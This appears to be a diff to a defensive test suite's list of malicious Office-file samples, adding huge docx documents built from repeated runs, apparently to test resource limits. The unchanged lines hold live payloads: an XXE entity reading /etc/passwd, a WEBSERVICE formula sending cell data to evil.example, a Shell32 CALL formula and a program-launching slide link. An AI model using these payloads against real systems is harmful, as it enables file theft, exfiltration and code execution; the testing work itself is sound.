@@ -16,6 +16,7 @@ LAUGHS = (
     + b"]><w:document>&j;</w:document>"
 )
 XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
+WORDS = b"<w:document>%s</w:document>"
 LEGACY = {"macro": "_VBA_PROJECT", "packed": "\x01Ole10Native", "locked": "EncryptedPackage"}
 
 
@@ -100,6 +101,9 @@ SAMPLES = [
     doc("formula-that-fetches", RUNS, "xlsx", sheet('WEBSERVICE("http://evil.example/"&amp;A1)')),
     doc("formula-that-calls", RUNS, "xlsx", sheet('CALL("Shell32","ShellExecuteA","JJ","calc")')),
     doc("slide-that-runs-a-program", RUNS, "pptx", main("pptx", b'<p><a:hlinkClick action="ppaction://program"/></p>')),
+    Sample("document-of-empty-runs", "论文.docx", lambda: office("docx", main("docx", WORDS % (b"<w:t></w:t>" * 1_400_000))), kept_as="论文.docx"),
+    Sample("document-of-letters-apart", "论文.docx", lambda: office("docx", main("docx", WORDS % (b"<w:t>a</w:t><w:tab/>" * 700_000))), kept_as="论文.docx"),
+    Sample("document-of-words-apart", "论文.docx", lambda: office("docx", main("docx", WORDS % ("<w:t>" + "一a" * 400_000 + "</w:t>").encode())), kept_as="论文.docx"),
     Sample("old-document-renamed", "旧.docx", lambda: ole(LEGACY["macro"]), "另存为 docx"),
     Sample("old-workbook-renamed-to-pdf", "旧.pdf", lambda: ole(LEGACY["packed"]), "另存为 docx"),
     Sample("workbook-with-password", "加密.xlsx", lambda: ole(LEGACY["locked"]), "去掉密码"),
